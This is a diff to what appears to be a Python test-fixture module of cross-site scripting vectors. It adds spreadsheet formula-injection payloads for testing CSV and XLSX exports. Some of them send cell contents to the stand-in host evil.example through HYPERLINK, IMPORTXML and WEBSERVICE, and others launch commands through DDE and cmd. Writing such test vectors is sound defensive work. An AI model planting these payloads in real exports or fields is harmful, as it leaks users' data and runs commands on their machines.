@@ -1,4 +1,5 @@
-"""Cross-site scripting vectors for every place people's text reaches a page.
+"""Cross-site scripting vectors for every place people's text reaches a page, and spreadsheet
+formula vectors for every place it reaches a CSV or XLSX export.
 
 Every vector that could run script runs `alert(window.__xss=1)`: a browser test then knows both by
 a dialog and by the flag whether any of them fired.
@@ -112,3 +113,27 @@ MARKUP_IN_WEB_LINKS = [
 ]
 
 ALL_VECTORS = "\n\n".join(VECTORS)
+
+# Text a spreadsheet would run as a formula (OWASP "CSV Injection"), as a candidate could type it
+# in a title or an imported packet could give it as a name.
+FORMULA_VECTORS = [
+    '=HYPERLINK("http://evil.example/?leak="&A1,"Open the guide")',
+    "=cmd|' /C calc'!A0",
+    "+cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
+    '=WEBSERVICE("http://evil.example/")',
+    '=DDE("cmd";"/C calc";"__DdeLink_60_870516294")',
+    "=1+1",
+    "+1+2",
+    "-2+3",
+    "@SUM(A1:A2)",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+]
+
+# Every ASCII control character, which an export must drop or keep without letting what follows
+# it start a formula.
+CONTROL_CHARACTERS = [chr(code) for code in (*range(0x20), 0x7F)]
